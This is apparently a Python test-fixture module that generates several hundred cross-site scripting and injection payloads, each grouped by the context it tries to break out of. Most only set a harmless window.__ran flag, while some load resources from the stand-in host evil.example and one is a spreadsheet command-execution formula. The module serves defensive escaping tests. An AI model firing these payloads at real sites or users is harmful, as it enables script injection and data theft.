"""Script payloads of our own making, by the context they try to break out of."""

from __future__ import annotations

RUN = "window.__ran=1"
"""What every payload tries to carry out; the page is asked afterwards whether it did."""

_TAGS = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<scr<script>ipt>{}</script>", "<script\n>{}</script\n>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", "<img/src/onerror={}>", "<IMG SRC=x OnErRoR={}>", "<image href=x onerror={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><script>{}<p>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg onload={}>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>", "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>{}</script></annotation-xml></math>",
    "<math href='javascript:{}'>x</math>", "<body onload={}>", "<body onpageshow={}>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>", "<iframe onload={}></iframe>", "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<keygen autofocus onfocus={}>", "<marquee onstart={}>x</marquee>",
    "<form action='javascript:{}'><button autofocus>x</button></form>", "<isindex action=javascript:{} type=image>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>{}</script>'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{{background:url(//evil.example/x)}}</style>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<title><img src=x onerror={}></title>", "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<textarea><p title='</textarea><img src=x onerror={}>'>", "<!--><img src=x onerror={}>-->", "<!-- --!><img src=x onerror={}>", "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml version='1.0'?><script>{}</script>", "<!DOCTYPE x [<!ENTITY y '<script>{}</script>'>]>&y;", "<custom-tag onclick={} autofocus tabindex=1 onfocus={}>",
    "<p style='animation-name:x' onanimationstart={}>x</p>", "<a href='javascript:{}' autofocus onfocus={}>x</a>", "<portal src='//evil.example/'>", "<frameset onload={}>",
]  # fmt: skip
_ATTRIBUTE = [
    "\" onload={} x=\"", "' onload={} x='", "\" autofocus onfocus={} x=\"", "' autofocus onfocus={} x='", "\"><script>{}</script>", "'><script>{}</script>",
    "\"><img src=x onerror={}>", "'><img src=x onerror={}>", "`onerror={}`", "x onerror={} ", "\" style=\"background:url(//evil.example/x)", "\"/><svg onload={}>",
    "&quot; onload={} x=&quot;", "&#34; onload={} x=&#34;", "&#x27; onload={} x=&#x27;", "\" srcset=\"//evil.example/x 1x", "\" ping=\"//evil.example/x",
    "\" formaction=\"javascript:{}", "\" srcdoc=\"<script>{}</script>", "\\\" onload={} \\\"", "\n\" onload={} \"", "\"\tonload={}\t\"",
]  # fmt: skip
_CLOSERS = [
    "</title><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>", "</SCRIPT ><script>{}</script>", "</textarea><script>{}</script>",
    "</noscript><script>{}</script>", "</template><script>{}</script>", "</svg><script>{}</script>", "</math><script>{}</script>", "</p></div></main></body></html><script>{}</script>",
    "--><script>{}</script>", "--!><script>{}</script>", "]]><script>{}</script>", "*/</style><script>{}</script>", "</option></select><img src=x onerror={}>",
    "</iframe><img src=x onerror={}>", "</xmp><img src=x onerror={}>", "</plaintext><img src=x onerror={}>", "</button><img src=x onerror={}>", "</a><img src=x onerror={}>",
]  # fmt: skip
_JSON = [
    "\"}}</script><script>{}</script>", "\",\"x\":\"</script><script>{}</script>", "\\\"}}];{};//", "'-{}-'", "\";{};//", "</ScRiPt><script>{}</script>",
    "<!--<script>{}//", "<!--<script></script><script>{}</script>-->", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "${{{}}}", "`${{{}}}`", "{{{{ {} }}}}", "{{% {} %}}", "{{# {} #}}",
    "{{{{ ''.__class__ }}}}", "{{{{ cycler.__init__.__globals__ }}}}", "<%= {} %>", "#{{{}}}", "@@{}@@", "[[{}]]",
]  # fmt: skip
_CSS = [
    "expression({})", "url(javascript:{})", "}} * {{ background: url(//evil.example/x) }} x {{", "\\3c script\\3e {}", "; background: url(//evil.example/x);",
    "red; behavior: url(//evil.example/x.htc)", "@import url(//evil.example/x.css);", "</style><img src=x onerror={}>", "x:url('//evil.example/x')", "\\22 ); background:url(//evil.example/x); (\\22",
]  # fmt: skip
_LINES = [
    "x\nBEGIN:VEVENT\nSUMMARY:{}", "x\nEND:VCARD\nBEGIN:VCARD\nFN:evil", "x\nATTACH:https://evil.example/", "x;TYPE=work:y", "x\\nURL:https://evil.example/", "x\nSet-Cookie: a=b",
    "x\nLocation: //evil.example/", "x\n\n<script>{}</script>", "x,y;z\\w", "BEGIN:VALARM", "X-EVIL:1", "x\n PHOTO:https://evil.example/",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:{})", "![x](x\"onerror=\"{})", "<javascript:{}>", "[x]: javascript:{}\n\n[x]", "[x](data:text/html,<script>{}</script>)", "![x](//evil.example/x.png)",
    "`<script>{}</script>`", "```\n</code></pre><script>{}</script>\n```", "<div onclick={} autofocus tabindex=1 onfocus={}>", "[x](vbscript:{})", "[x](  javascript:{})", "[x](java&#115;cript:{})",
    "[x](<javascript:{}>)", "> <script>{}</script>", "# <script>{}</script>", "| <img src=x onerror={}> |", "[a](x 'y\" onfocus={} autofocus x=\"')", "&lt;script&gt;{}&lt;/script&gt;", "\\<script>{}\\</script>", "<a\nhref='javascript:{}'>x</a>",
]  # fmt: skip
_ENCODED = [
    "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;", "&lt&#59;script&gt&#59;{}",
    "＜script＞{}＜/script＞", "‹script›{}‹/script›", "\\x3cscript\\x3e{}\\x3c/script\\x3e", "\\u003cimg src=x onerror={}\\u003e", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "ʺ onload={} ʺ", "＂ onload={} ＂", "&amp;lt;script&amp;gt;{}", "<ſcript>{}</ſcript>", "<İmg src=x onerror={}>", "<a href='jav&#x09;ascript:{}' autofocus onfocus={}>",
    "<a href='jav\tascript:{}' autofocus onfocus={}>x", "<a href='&#1;javascript:{}'>x", "<img src='x:x' onerror='\\u0077indow.__ran=1'>", "<script>\\u0077indow.__ran=1</script>",
]  # fmt: skip
_FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("//evil.example")',
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    ";=1+1",
    ",=1+1",
    '"=1+1',
]


def payloads() -> tuple[str, ...]:
    """Give every payload once, in a fixed order; at least two hundred."""
    shapes = [*_TAGS, *_ATTRIBUTE, *_CLOSERS, *_JSON, *_CSS, *_LINES, *_MARKDOWN, *_ENCODED]
    made = [
        shape.replace("{{", "\0").replace("}}", "\1").replace("{}", RUN).replace("\0", "{").replace("\1", "}")
        for shape in shapes
    ]
    broken_out = ["'\"></a></p>" + text for text in made[:20]]
    return tuple(dict.fromkeys([*made, *broken_out, *_FORMULAS]))
